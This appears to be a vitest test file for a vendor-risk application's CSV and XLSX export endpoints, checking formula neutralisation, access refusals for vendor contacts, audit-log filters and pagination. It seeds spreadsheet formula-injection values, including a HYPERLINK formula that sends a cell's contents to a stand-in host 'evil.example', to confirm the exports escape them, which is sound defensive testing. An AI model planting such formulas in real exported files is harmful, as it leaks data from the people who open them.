import { parse } from "csv-parse/sync";
import ExcelJS from "exceljs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { SYSTEM_ACTOR } from "../../src/domain/roles.ts";
import { shippedCatalog } from "../../src/playbook/load-catalog.ts";
import { createApp } from "../../src/server/app.ts";
import { appendAuditEntry } from "../../src/services/audit/append-audit-entry.ts";
import { walkAuditEntries } from "../../src/services/audit/list-audit-entries.ts";
import { recordAudit } from "../../src/services/records/audits.ts";
import { addPerson } from "../../src/services/roster/save-person.ts";
import { updateVendor } from "../../src/services/vendors/update-vendor.ts";
import { makeEngagement, makeUser, systemContext, TEST_PASSWORD } from "../support/fixtures.ts";
import { TestClient } from "../support/http.ts";
import { createTestRuntime, type TestRuntime } from "../support/test-runtime.ts";

const FORMULA = '=HYPERLINK("http://evil.example/?x="&A2,"Click")';

async function csvRows(res: Response): Promise<Record<string, string>[]> {
  expect(res.status).toBe(200);
  expect(res.headers.get("content-type")).toMatch(/^text\/csv/);
  return parse(await res.text(), { columns: true }) as Record<string, string>[];
}

/** The first sheet of an XLSX answer: its header row and its rows as cell values. */
async function xlsxRows(res: Response): Promise<{ header: string[]; rows: ExcelJS.CellValue[][] }> {
  expect(res.status).toBe(200);
  expect(res.headers.get("content-type")).toBe(
    "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
  );
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(await res.arrayBuffer());
  const sheet = workbook.worksheets[0]!;
  const values: ExcelJS.CellValue[][] = [];
  sheet.eachRow((row) => values.push((row.values as ExcelJS.CellValue[]).slice(1)));
  return { header: values[0] as string[], rows: values.slice(1) };
}

describe("table exports", () => {
  let runtime: TestRuntime;
  let ids: { vendorId: string; engagementId: string };
  const clients: Record<"auditor" | "security" | "vendor", TestClient> = {} as never;
  let securityEmail = "";

  beforeAll(async () => {
    runtime = await createTestRuntime();
    const app = createApp(runtime);
    const ctx = systemContext(runtime);
    ids = await makeEngagement(runtime, { name: "Formula Vendor" });
    await updateVendor(ctx, ids.vendorId, { legalName: FORMULA });
    await makeEngagement(runtime, { name: "Plain Vendor Ltd" });
    await addPerson(ctx, ids.vendorId, {
      fullName: "+SUM(1,2)",
      startDate: "2026-01-05",
      email: "dev@vendor.example",
    });
    await recordAudit(ctx, {
      vendorId: ids.vendorId,
      kind: "third_party",
      auditorOrg: "Trust & Co",
      performedOn: "2026-06-01",
      findings: [{ title: "@cmd shared drive open to all clients", severity: "high" }],
    });
    for (const role of ["auditor", "security", "vendor"] as const) {
      const user = await makeUser(runtime, role, role === "vendor" ? { vendorId: ids.vendorId } : {});
      if (role === "security") securityEmail = user.email;
      clients[role] = new TestClient(app);
      expect((await clients[role].login(user.email, TEST_PASSWORD)).status).toBe(200);
    }
  }, 120_000);
  afterAll(async () => runtime?.close());

  it("exports vendors as CSV and XLSX with a formula-like name neutralised", async () => {
    const csv = await csvRows(await clients.auditor.request("GET", "/api/vendors/export?format=csv"));
    expect(csv.map((r) => r["Legal name"])).toContain(`'${FORMULA}`);
    expect(csv.map((r) => r["Legal name"])).toContain("Plain Vendor Ltd");
    const xlsx = await xlsxRows(
      await clients.auditor.request("GET", "/api/vendors/export?format=xlsx&q=hyperlink"),
    );
    expect(xlsx.header[0]).toBe("Legal name");
    expect(xlsx.rows.map((r) => r[0])).toEqual([`'${FORMULA}`]);
    const bad = await clients.auditor.request("GET", "/api/vendors/export?format=pdf");
    expect(bad.status).toBe(400);
    expect(await bad.text()).toMatch(/format/);
  });

  it("exports the controls of an engagement with numbers as numbers and their framework references", async () => {
    const path = `/api/engagements/${ids.engagementId}/controls/export`;
    const xlsx = await xlsxRows(await clients.auditor.request("GET", `${path}?format=xlsx`));
    const col = (name: string) => xlsx.header.indexOf(name);
    expect(xlsx.rows.map((r) => r[col("Control")])).toEqual(shippedCatalog().map((c) => c.id));
    const dd1 = xlsx.rows.find((r) => r[col("Control")] === "DD-1")!;
    expect(dd1[col("Weight")]).toBe(10);
    expect(typeof dd1[col("Weight")]).toBe("number");
    expect(dd1[col("ISO/IEC 27001:2022")]).toContain("A.5.12");
    const csv = await csvRows(await clients.auditor.request("GET", `${path}?format=csv`));
    expect(csv.find((r) => r.Control === "DD-2")).toMatchObject({
      Weight: "6",
      "SOC 2": "CC9.2, CC3.2",
    });
  });

  it("exports the engagements and contracts lists with the list's filters", async () => {
    const all = await csvRows(await clients.auditor.request("GET", "/api/engagements/export"));
    expect(all.map((r) => r.Vendor).sort()).toEqual([`'${FORMULA}`, "Plain Vendor Ltd"]);
    const one = await xlsxRows(
      await clients.auditor.request("GET", `/api/engagements/export?format=xlsx&vendorId=${ids.vendorId}`),
    );
    expect(one.rows.map((r) => r[one.header.indexOf("Id")])).toEqual([ids.engagementId]);
    expect(one.rows[0]![one.header.indexOf("Required insurance")]).toBe(1_000_000);
    const contracts = await csvRows(await clients.auditor.request("GET", "/api/contracts/export"));
    expect(contracts).toEqual([]);
  });

  it("exports the roster and audit findings with their formula-like cells as text", async () => {
    const roster = await xlsxRows(
      await clients.vendor.request("GET", `/api/vendors/${ids.vendorId}/roster/export?format=xlsx`),
    );
    expect(roster.header[0]).toBe("full_name");
    expect(roster.rows[0]![0]).toBe("'+SUM(1,2)");
    const findings = await csvRows(
      await clients.auditor.request("GET", `/api/audit-findings/export?vendorId=${ids.vendorId}`),
    );
    expect(findings).toHaveLength(1);
    expect(findings[0]).toMatchObject({
      Finding: "'@cmd shared drive open to all clients",
      Severity: "high",
      Auditor: "Trust & Co",
      "Performed on": "2026-06-01",
    });
  });

  it("refuses the internal tables to a vendor contact", async () => {
    for (const path of [
      "/api/vendors/export",
      "/api/engagements/export",
      "/api/contracts/export",
      `/api/engagements/${ids.engagementId}/controls/export`,
      `/api/audit-findings/export?vendorId=${ids.vendorId}`,
      "/api/audit/export",
      "/api/contracts/00000000-0000-4000-8000-000000000000/findings/export",
    ])
      expect((await clients.vendor.request("GET", path)).status, path).toBe(403);
  });

  it("exports the audit log with the list's filters, targets named, and records who exported what", async () => {
    await clients.security.request("GET", "/api/vendors/export?format=xlsx&q=plain");
    const all = await csvRows(await clients.auditor.request("GET", "/api/audit/export"));
    expect(all.length).toBeGreaterThan(5);
    expect(Number(all[0]!.Seq)).toBeGreaterThan(Number(all[1]!.Seq));
    const vendorCreate = all.find((r) => r.Action === "vendor.create" && r["Target id"] === ids.vendorId);
    // The vendor's name today, neutralised like any cell.
    expect(vendorCreate?.Target).toBe(`'${FORMULA}`);

    const exports = await csvRows(
      await clients.auditor.request(
        "GET",
        `/api/audit/export?actor=${encodeURIComponent(securityEmail.slice(0, 12).toUpperCase())}&action=export`,
      ),
    );
    expect(exports).toHaveLength(1);
    expect(exports[0]).toMatchObject({
      Actor: securityEmail,
      Action: "export.table",
      "Target type": "vendor",
    });
    expect(JSON.parse(exports[0]!.Summary!)).toEqual({
      table: "vendors",
      format: "xlsx",
      filter: { q: "plain" },
    });

    const today = runtime.now().toISOString().slice(0, 10);
    const xlsx = await xlsxRows(
      await clients.auditor.request(
        "GET",
        `/api/audit/export?format=xlsx&targetType=vendor&targetId=${ids.vendorId}&from=${today}&to=${today}`,
      ),
    );
    const col = (name: string) => xlsx.header.indexOf(name);
    expect(xlsx.rows.length).toBeGreaterThan(1);
    expect(xlsx.rows.every((r) => r[col("Target id")] === ids.vendorId)).toBe(true);
    expect(typeof xlsx.rows[0]![col("Seq")]).toBe("number");
    const none = await csvRows(
      await clients.auditor.request("GET", "/api/audit/export?from=2000-01-01&to=2000-01-02"),
    );
    expect(none).toEqual([]);
    expect((await clients.auditor.request("GET", "/api/audit/export?from=yesterday")).status).toBe(400);
  });

  it("documents each export's file types and filters in the OpenAPI document", async () => {
    const doc = (await (await clients.auditor.request("GET", "/api/openapi.json")).json()) as {
      paths: Record<
        string,
        { get: { parameters?: { name: string }[]; responses: Record<string, { content: object }> } }
      >;
    };
    const op = doc.paths["/api/audit/export"]!.get;
    expect(Object.keys(op.responses["200"]!.content).sort()).toEqual([
      "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
      "text/csv",
    ]);
    expect(op.parameters?.map((p) => p.name)).toEqual(
      expect.arrayContaining(["format", "actor", "action", "targetType", "targetId", "from", "to"]),
    );
    expect(Object.keys(doc.paths["/api/engagements/{id}/report.pdf"]!.get.responses["200"]!.content)).toEqual(
      ["application/pdf"],
    );
  });

  it("exports a log of several pages whole, in CSV and XLSX", async () => {
    await runtime.db.transaction().execute(async (tx) => {
      for (let i = 0; i < 2100; i++)
        await appendAuditEntry(tx, SYSTEM_ACTOR, runtime.now(), {
          action: "bulk.test",
          targetType: "vendor",
          targetId: ids.vendorId,
          summary: { i },
        });
    });
    const csv = await csvRows(await clients.auditor.request("GET", "/api/audit/export?action=bulk.test"));
    expect(csv).toHaveLength(2100);
    expect(csv.map((r) => Number(JSON.parse(r.Summary!).i))).toEqual(
      Array.from({ length: 2100 }, (_, i) => 2099 - i),
    );
    const xlsx = await xlsxRows(
      await clients.auditor.request("GET", "/api/audit/export?action=bulk.test&format=xlsx"),
    );
    expect(xlsx.rows).toHaveLength(2100);
    expect(new Set(xlsx.rows.map((r) => r[0])).size).toBe(2100);
  }, 120_000);

  it("reads the audit log a page at a time", async () => {
    const ctx = systemContext(runtime);
    const pages: number[][] = [];
    for await (const page of walkAuditEntries(ctx, {}, 7)) pages.push(page.map((e) => e.seq));
    expect(pages.length).toBeGreaterThan(2);
    expect(pages.every((p) => p.length <= 7)).toBe(true);
    const seqs = pages.flat();
    expect(seqs).toEqual([...seqs].sort((a, b) => b - a));
    expect(new Set(seqs).size).toBe(seqs.length);
    expect(seqs.at(-1)).toBe(1);
  });
});
